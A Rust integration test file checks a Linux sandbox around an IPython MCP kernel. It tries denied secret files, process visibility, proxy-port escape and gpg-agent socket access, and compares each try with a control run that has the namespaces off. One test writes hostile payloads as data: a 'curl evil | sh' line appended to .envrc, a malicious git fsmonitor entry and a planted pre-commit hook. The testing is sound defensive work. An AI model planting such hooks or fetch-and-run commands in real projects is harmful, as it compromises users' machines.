//! End to end, as an attacker and as a new user would: a sandboxed kernel in namespaces of its
//! own. A denied file changes nothing around it and `tempfile` works, the kernel sees its own
//! processes only, and the allowlist proxy's port is reachable on no other address (a
//! principal's own `/tmp` is tried in the principals' tests). Each try is checked against a control that shows what happens without the
//! namespaces (Landlock and seccomp alone) or without the sandbox.

use std::path::Path;

use crate::support;

use serde_json::json;
use support::{Family, Server};

/// Runs `code` in the default kernel and returns what it printed, checking the call worked.
async fn run(server: &Server, code: &str) -> String {
    let result = server.call("execute", json!({ "code": code })).await;
    assert!(result.ok(), "{code}\n{result:?}");
    result.structured["stdout"]
        .as_str()
        .expect("stdout")
        .to_owned()
}

fn literal(path: &Path) -> String {
    format!("{:?}", path.to_str().expect("utf-8"))
}

/// A server whose sandbox is `sandbox`, with namespaces `namespaces` (`auto` or `off`), its
/// workspace `workspace`, and `extra` settings.
async fn server(
    sandbox: &str,
    namespaces: &str,
    workspace: &Path,
    extra: &[(&str, &str)],
) -> Server {
    if !cfg!(target_os = "linux") {
        panic!("the sandbox tests run on Linux");
    }
    let mut env = vec![
        ("IPYTHON_MCP_SANDBOX", sandbox),
        ("IPYTHON_MCP_SANDBOX_NAMESPACES", namespaces),
        (
            "IPYTHON_MCP_WORKSPACE_ROOT",
            workspace.to_str().expect("utf-8"),
        ),
    ];
    env.extend_from_slice(extra);
    Server::start(Family::Modern, &env).await
}

async fn mechanisms(server: &Server) -> String {
    let status = server.call("runtime_status", json!({})).await;
    status.structured["kernel"]["sandbox"].to_string()
}

/// The upstreams file (a denied path) in a project directory under `/tmp`, as a new user has
/// it: the kernel cannot read it, and everything around it works as without a sandbox (Landlock
/// alone had to split `/tmp` and the project for it: `tempfile` found no usable directory and
/// nothing new could be made in either); a directory made after the kernel started is
/// writable.
#[tokio::test]
async fn a_denied_file_in_the_workspace_changes_nothing_around_it_and_tempfile_just_works() {
    for (sandbox, namespaces) in [("workspace-write", "auto"), ("off", "auto")] {
        let project = tempfile::Builder::new()
            .prefix("proj")
            .tempdir_in("/tmp")
            .expect("project under /tmp");
        let secret = project.path().join("upstreams.json");
        std::fs::write(&secret, "SECRET token\n").expect("secret");
        let host_only = tempfile::Builder::new()
            .prefix("host-only")
            .tempdir_in("/tmp")
            .expect("host temp");
        std::fs::write(host_only.path().join("bob.pkl"), "host data").expect("host file");
        let deny = secret.to_str().expect("utf-8").to_owned();
        let server = server(
            sandbox,
            namespaces,
            project.path(),
            &[("IPYTHON_MCP_SANDBOX_READ_DENY", &deny)],
        )
        .await;
        let project_literal = literal(project.path());
        let printed = run(
            &server,
            &format!(
                r#"import os, tempfile
project = {project_literal}
try:
    print('secret', 'read' if 'SECRET' in open(os.path.join(project, 'upstreams.json')).read() else 'other')
except OSError as e:
    print('secret denied', type(e).__name__)
print('tempdir', tempfile.gettempdir())
with tempfile.NamedTemporaryFile() as f:
    f.write(b'x')
    print('tempfile works')
open(os.path.join(project, 'made-by-kernel.txt'), 'w').write('new')
print('listed', sorted(os.listdir(project)))
print('host temp seen', os.path.exists({host_file}))
open({kernel_file}, 'w').write('kernel data')
"#,
                host_file = literal(&host_only.path().join("bob.pkl")),
                kernel_file = literal(&host_only.path().join("kernel.txt")),
            ),
        )
        .await;
        let kernel_file = host_only.path().join("kernel.txt");
        // Made after the kernel started, where the kernel may write.
        std::fs::create_dir(project.path().join("later")).expect("later");
        let later = literal(&project.path().join("later/out.txt"));
        let wrote_later = run(
            &server,
            &format!("open({later}, 'w').write('x'); print('wrote later')"),
        )
        .await;
        let status = mechanisms(&server).await;
        server.stop().await;
        let listed = "listed ['made-by-kernel.txt', 'upstreams.json']";
        // The server's own user's kernels share the host's temp directory, as its other
        // processes do.
        assert!(printed.contains("tempfile works"), "{sandbox}: {printed}");
        assert!(
            printed.contains("host temp seen True"),
            "{sandbox}: {printed}"
        );
        assert!(
            kernel_file.exists(),
            "{sandbox}: the kernel wrote the host's /tmp"
        );
        assert!(printed.contains(listed), "{sandbox}: {printed}");
        if sandbox == "off" {
            assert!(printed.contains("secret read"), "control: {printed}");
        } else {
            assert!(
                status.contains("namespaces (user, mount, pid, ipc)"),
                "{status}"
            );
            assert!(
                printed.contains("secret denied PermissionError"),
                "{printed}"
            );
            assert_eq!(
                std::fs::read_to_string(&secret).expect("secret"),
                "SECRET token\n",
                "the denied file is untouched"
            );
        }
        assert_eq!(wrote_later, "wrote later\n", "{sandbox}");
        assert!(project.path().join("later/out.txt").exists());
        assert!(project.path().join("made-by-kernel.txt").exists());
    }
}

/// Kernel code sees its own processes only: not the test's, not the server's. The control,
/// without namespaces, sees both.
#[tokio::test]
async fn kernel_code_sees_its_own_processes_only() {
    let workspace = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("workspace");
    for namespaces in ["auto", "off"] {
        let server = server("workspace-write", namespaces, workspace.path(), &[]).await;
        let printed = run(
            &server,
            &format!(
                "import os\npids = [p for p in os.listdir('/proc') if p.isdigit()]\nprint(os.path.exists('/proc/{test}'), os.path.exists('/proc/{server}'), os.getpid() < 10)",
                test = std::process::id(),
                server = server.pid,
            ),
        )
        .await;
        server.stop().await;
        match namespaces {
            "auto" => assert_eq!(printed, "False False True\n"),
            // Landlock alone keeps other processes' entries from being read, not from being
            // seen to exist.
            _ => assert!(printed.starts_with("True True"), "control: {printed}"),
        }
    }
}

/// Under an allowlist the proxy's port on any other address is out of reach: a host that
/// listens on the same port number elsewhere (here `127.0.0.2`) is not a way out. Without the
/// namespaces (Landlock's rules are by port alone) the same connection goes through.
#[tokio::test]
async fn the_proxy_s_port_on_another_address_is_unreachable() {
    let workspace = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("workspace");
    for namespaces in ["auto", "off"] {
        let server = server(
            "workspace-write",
            namespaces,
            workspace.path(),
            &[("IPYTHON_MCP_SANDBOX_NETWORK", "pypi.org")],
        )
        .await;
        let proxy = run(&server, "import os; print(os.environ['HTTP_PROXY'])").await;
        let port: u16 = proxy
            .trim()
            .rsplit(':')
            .next()
            .and_then(|port| port.parse().ok())
            .unwrap_or_else(|| panic!("a proxy URL: {proxy}"));
        // Someone else's service on the proxy's port number, at another address.
        let elsewhere = std::net::TcpListener::bind(("127.0.0.2", port)).expect("127.0.0.2");
        let printed = run(
            &server,
            &format!(
                "import socket\nfor host in ['127.0.0.2', '127.0.0.1']:\n    try:\n        socket.create_connection((host, {port}), timeout=10).close()\n        print(host, 'reached')\n    except OSError as e:\n        print(host, 'refused', type(e).__name__)"
            ),
        )
        .await;
        drop(elsewhere);
        server.stop().await;
        match namespaces {
            "auto" => assert!(
                printed.starts_with("127.0.0.2 refused") && printed.contains("127.0.0.1 reached"),
                "{printed}"
            ),
            _ => assert!(
                printed.starts_with("127.0.0.2 reached"),
                "control (Landlock alone): {printed}"
            ),
        }
    }
}

/// Without namespaces (turned off here, as on a system without user namespaces) the sandbox is
/// Landlock and seccomp alone, and says so.
#[tokio::test]
async fn without_namespaces_the_report_says_which_design_is_in_force() {
    let workspace = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("workspace");
    let server = server("workspace-write", "off", workspace.path(), &[]).await;
    let status = mechanisms(&server).await;
    server.stop().await;
    assert!(!status.contains("\"namespaces ("), "{status}");
    assert!(status.contains("landlock"), "{status}");
    assert!(
        status.contains(
            "Landlock and seccomp alone, without namespaces: turned off in the configuration"
        ),
        "{status}"
    );
}

/// In a project workspace (not split: nothing denied in it), what runs later outside the
/// sandbox stays read-only: `.git` (its hooks and configuration), `.vscode`, `.envrc`; the rest
/// of the project stays writable. Without the namespaces (Landlock alone would have to split
/// the workspace to say so) each of them is written.
#[tokio::test]
async fn kernel_code_cannot_plant_what_runs_outside_the_sandbox_in_a_project() {
    for namespaces in ["auto", "off"] {
        let project = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("project");
        let root = project.path();
        std::fs::create_dir_all(root.join(".git/hooks")).expect("hooks");
        std::fs::write(root.join(".git/config"), "[core]\n").expect("config");
        std::fs::create_dir_all(root.join(".vscode")).expect("vscode");
        std::fs::write(root.join(".envrc"), "# mine\n").expect("envrc");
        let server = server("workspace-write", namespaces, root, &[]).await;
        let printed = run(
            &server,
            &format!(
                r#"import os
root = {root}
def attempt(label, action):
    try:
        action()
        print(label, 'written')
    except OSError as e:
        print(label, 'denied', type(e).__name__)
attempt('hook', lambda: open(os.path.join(root, '.git/hooks/pre-commit'), 'w').write('#!/bin/sh\n'))
attempt('git-config', lambda: open(os.path.join(root, '.git/config'), 'a').write('[core]\n\tfsmonitor = evil\n'))
attempt('vscode', lambda: open(os.path.join(root, '.vscode/tasks.json'), 'w').write('{{}}'))
attempt('envrc', lambda: open(os.path.join(root, '.envrc'), 'a').write('curl evil | sh\n'))
attempt('project', lambda: open(os.path.join(root, 'results.csv'), 'w').write('a,b\n'))
"#,
                root = literal(root),
            ),
        )
        .await;
        server.stop().await;
        assert!(
            printed.contains("project written"),
            "{namespaces}: {printed}"
        );
        let planted = ["hook", "git-config", "vscode", "envrc"];
        match namespaces {
            "auto" => {
                for label in planted {
                    assert!(printed.contains(&format!("{label} denied")), "{printed}");
                }
                assert!(!root.join(".git/hooks/pre-commit").exists());
                assert_eq!(
                    std::fs::read_to_string(root.join(".envrc")).expect("envrc"),
                    "# mine\n"
                );
            }
            _ => {
                for label in planted {
                    assert!(
                        printed.contains(&format!("{label} written")),
                        "control: {printed}"
                    );
                }
            }
        }
    }
}

/// A Unix socket inside a denied directory (an agent's, as `~/.gnupg/S.gpg-agent` is) cannot be
/// connected to: the directory is covered. Landlock alone does not govern connecting to a
/// socket: without the namespaces the same connection is made.
#[tokio::test]
async fn a_socket_inside_a_denied_directory_cannot_be_connected_to() {
    let home = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("home");
    let gnupg = home.path().join(".gnupg");
    std::fs::create_dir_all(&gnupg).expect("gnupg");
    let socket = gnupg.join("S.gpg-agent");
    let agent = std::os::unix::net::UnixListener::bind(&socket).expect("agent socket");
    let workspace = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("workspace");
    let home_text = home.path().to_str().expect("utf-8").to_owned();
    for namespaces in ["auto", "off"] {
        let server = server(
            "workspace-write",
            namespaces,
            workspace.path(),
            &[("HOME", &home_text)],
        )
        .await;
        let printed = run(
            &server,
            &format!(
                "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect({socket})\n    print('connected')\nexcept OSError as e:\n    print('refused', type(e).__name__)",
                socket = literal(&socket),
            ),
        )
        .await;
        server.stop().await;
        match namespaces {
            "auto" => assert_eq!(printed, "refused PermissionError\n"),
            _ => assert_eq!(printed, "connected\n", "control (Landlock alone)"),
        }
    }
    drop(agent);
}
